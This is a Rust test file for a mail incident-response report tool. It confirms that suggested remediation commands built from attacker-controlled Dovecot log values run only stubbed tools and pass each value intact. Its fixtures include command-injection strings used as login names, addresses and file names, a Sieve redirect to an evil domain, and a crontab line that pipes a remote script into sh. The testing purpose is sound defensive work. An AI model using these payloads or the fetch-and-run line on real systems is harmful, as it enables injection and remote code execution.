//! The report's suggested commands under attack (issue: hostile input must not reach a shell).
//!
//! A host whose Dovecot log is full of attacker-chosen login names and client addresses with
//! shell metacharacters (`$(touch${IFS}PWNED)`, `x;touch PWNED`, backticks), addresses that
//! must not be blocked (`0.0.0.0/0`, loopback, private, `999.1.1.1`, `-F`), IPv6 and
//! `::ffff:`-mapped attackers, and a crontab whose *file name* is a command substitution.
//! `mailir report` renders its playbook; every command it renders is then run by bash with a
//! `PATH` of stub tools that only record their arguments. Nothing may run but the stubs, each
//! value must arrive as one intact argument, and every value that may not be in a command is
//! listed as refused instead.

use std::path::Path;
use std::time::Duration;

use serde_json::Value;

use crate::util::{self, run_cmd};

/// Client addresses with what the report must do with them: `Some(tool)` blocked by that
/// tool with that exact argument, `None` refused.
const ADDRESSES: &[(&str, Option<(&str, &str)>)] = &[
    ("203.0.113.9", Some(("iptables", "203.0.113.9"))),
    ("::ffff:203.0.113.10", Some(("iptables", "203.0.113.10"))),
    ("2001:db8:66::7", Some(("ip6tables", "2001:db8:66::7"))),
    ("203.0.113.11;touch${IFS}PWNED", None),
    ("0.0.0.0/0", None),
    ("127.0.0.1", None),
    ("192.168.10.5", None),
    ("999.1.1.1", None),
    ("-F", None),
];

/// Login names, the last ones hostile: those are refused, never put in a command.
const USERS: &[(&str, bool)] = &[
    ("liwei", true),
    ("$(touch${IFS}PWNED)", false),
    ("x;touch PWNED", false),
    ("a`touch PWNED`b", false),
];

const CRON_OWNER: &str = "$(touch PWNED)";
const SIEVE: &str = "a;touch PWNED.sieve";

/// Writes a mounted-root tree: the Dovecot log and the hostile crontab.
fn host(root: &Path) {
    let mut log = String::new();
    let mut t = 0;
    let mut line = |msg: String| {
        t += 1;
        log.push_str(&format!(
            "2026-03-05T10:{:02}:{:02}.000000+00:00 mx dovecot: {msg}\n",
            t / 60,
            t % 60
        ));
    };
    for (i, (ip, _)) in ADDRESSES.iter().enumerate() {
        let (user, _) = USERS[i % USERS.len()];
        for _ in 0..30 {
            line(format!("imap-login: Disconnected (auth failed, 1 attempts in 2 secs): user=<{user}>, method=PLAIN, rip={ip}, lip=192.0.2.1, TLS, session=<s{i}>"));
        }
    }
    // Every user name then logs in from the first attacker: taken over, to be kicked.
    for (user, _) in USERS {
        line(format!("imap-login: Login: user=<{user}>, method=PLAIN, rip=203.0.113.9, lip=192.0.2.1, mpid=1, TLS, session=<ok>"));
    }
    let logs = root.join("var/log");
    std::fs::create_dir_all(&logs).unwrap();
    std::fs::write(logs.join("mail.log"), log).unwrap();
    std::fs::create_dir_all(root.join("etc")).unwrap();
    std::fs::write(
        root.join("etc/passwd"),
        "root:x:0:0:root:/root:/bin/bash\nliwei:x:1000:1000::/home/liwei:/bin/bash\n",
    )
    .unwrap();
    // A Sieve redirect in a script whose file name is a command.
    let sieve = root.join("home/liwei/sieve");
    std::fs::create_dir_all(&sieve).unwrap();
    std::fs::write(
        sieve.join(SIEVE),
        "require [\"copy\"];\nredirect :copy \"x@evil.example\";\n",
    )
    .unwrap();
    std::os::unix::fs::symlink(
        format!("sieve/{SIEVE}"),
        root.join("home/liwei/.dovecot.sieve"),
    )
    .unwrap();
    let spool = root.join("var/spool/cron/crontabs");
    std::fs::create_dir_all(&spool).unwrap();
    std::fs::write(
        spool.join(CRON_OWNER),
        "*/30 * * * * /usr/bin/curl -fsS http://203.0.113.77/p.sh | /bin/sh\n",
    )
    .unwrap();
}

/// A folder of stub tools that append their name and arguments (one per line, NUL-free) to
/// `calls`.
fn stubs(dir: &Path, calls: &Path) {
    std::fs::create_dir_all(dir).unwrap();
    for tool in [
        "iptables",
        "ip6tables",
        "nft",
        "doveadm",
        "crontab",
        "postmap",
        "postalias",
        "postfix",
        "newaliases",
        "sievec",
        "rm",
        "chattr",
        "exim",
        "makemap",
    ] {
        util::write_script(
            &dir.join(tool),
            &format!(
                "#!/bin/bash\n{{ printf '%s' {tool}; for a in \"$@\"; do printf '\\t%s' \"$a\"; done; printf '\\n'; }} >> '{}'\n",
                calls.display()
            ),
        );
    }
}

#[test]
fn rendered_commands_run_nothing_but_their_tools_with_intact_values() {
    let t = tempfile::tempdir().unwrap();
    let root = t.path().join("host");
    host(&root);
    let out = t.path().join("report");
    let o = util::run(&[
        "report",
        root.to_str().unwrap(),
        "--out",
        out.to_str().unwrap(),
    ]);
    assert_eq!(o.code, 0, "{}", o.stderr);
    let r: Value =
        serde_json::from_slice(&std::fs::read(out.join("report.json")).unwrap()).unwrap();

    let mut commands: Vec<String> = Vec::new();
    let mut refused: Vec<String> = Vec::new();
    for steps in r["playbook"].as_object().unwrap().values() {
        for s in steps.as_array().unwrap() {
            for c in s["commands"].as_array().unwrap() {
                commands.push(c.as_str().unwrap().to_string());
            }
            for x in s["refused"].as_array().unwrap() {
                refused.push(x["value"].as_str().unwrap().to_string());
            }
        }
    }
    for c in r["clean_items"].as_array().unwrap() {
        if let Some(x) = c["refused"].as_object() {
            refused.push(x["value"].as_str().unwrap().to_string());
        }
        let apply = c["apply"].as_str().unwrap();
        if !apply.is_empty() {
            commands.push(apply.to_string());
        }
    }
    assert!(!commands.is_empty());

    // Run every command as a responder pasting it would.
    let work = t.path().join("work");
    std::fs::create_dir_all(&work).unwrap();
    let bin = t.path().join("bin");
    let calls = t.path().join("calls.tsv");
    stubs(&bin, &calls);
    for c in &commands {
        let mut sh = std::process::Command::new("/bin/bash");
        sh.arg("-c")
            .arg(c)
            .current_dir(&work)
            .env_clear()
            .env("PATH", &bin)
            .env("HOME", &work);
        let o = run_cmd(sh, Duration::from_secs(20));
        eprintln!("ran: {c} -> {}", o.code);
    }
    let pwned: Vec<_> = walkdir(t.path())
        .into_iter()
        .filter(|p| {
            p.file_name()
                .is_some_and(|n| n.to_string_lossy().contains("PWNED"))
        })
        .filter(|p| !p.starts_with(&root))
        .collect();
    assert!(pwned.is_empty(), "commands created {pwned:?}");
    let calls = std::fs::read_to_string(&calls).unwrap_or_default();
    let calls: Vec<Vec<&str>> = calls.lines().map(|l| l.split('\t').collect()).collect();

    // Addresses: blocked by the right tool with the exact argument, or refused.
    for (ip, want) in ADDRESSES {
        match want {
            Some((tool, arg)) => assert!(
                calls.iter().any(|c| c[0] == *tool && c.contains(arg)),
                "{ip}: no {tool} call with {arg}: {calls:?}"
            ),
            None => {
                assert!(
                    refused.iter().any(|x| x == ip),
                    "{ip} not refused: {refused:?}"
                );
                assert!(
                    !commands.iter().any(|c| c.contains(ip)),
                    "{ip} is in a command"
                );
            }
        }
    }
    // Accounts: the plain one kicked by name, the hostile ones refused and in no command.
    for (user, plain) in USERS {
        if *plain {
            assert!(
                calls
                    .iter()
                    .any(|c| c[0] == "doveadm" && c.last() == Some(user)),
                "{user} not kicked: {calls:?}"
            );
        } else {
            assert!(refused.iter().any(|x| x == user), "{user} not refused");
            assert!(
                !commands.iter().any(|c| c.contains(user)),
                "{user} in a command"
            );
        }
    }
    // The crontab owner (a file name) is refused too.
    assert!(refused.iter().any(|x| x == CRON_OWNER), "{refused:?}");
    // The Sieve script's path is quoted wherever it is named.
    let sieve = format!("/home/liwei/sieve/{SIEVE}");
    let named: Vec<&String> = commands.iter().filter(|c| c.contains(&sieve)).collect();
    assert!(!named.is_empty(), "{commands:?}");
    for c in named {
        assert!(c.contains(&format!("'{sieve}'")), "{c}");
        assert_eq!(
            c.matches(&sieve).count(),
            c.matches(&format!("'{sieve}'")).count(),
            "{c}"
        );
    }
    // Every call got its arguments as separate words: no stub saw a `;` or `$(`.
    for c in &calls {
        assert!(
            !c.iter()
                .any(|a| a.contains("$(") || a.contains(';') || a.contains('`')),
            "{c:?}"
        );
    }
    // The Markdown report shows the refused values as data, on their own lines.
    let md = std::fs::read_to_string(out.join("report.md")).unwrap();
    assert!(!md
        .lines()
        .any(|l| l.starts_with("# ") && l.contains("PWNED")));
}

fn walkdir(dir: &Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    if let Ok(rd) = std::fs::read_dir(dir) {
        for e in rd.flatten() {
            let p = e.path();
            if p.is_dir() && !p.is_symlink() {
                out.extend(walkdir(&p));
            }
            out.push(p);
        }
    }
    out
}
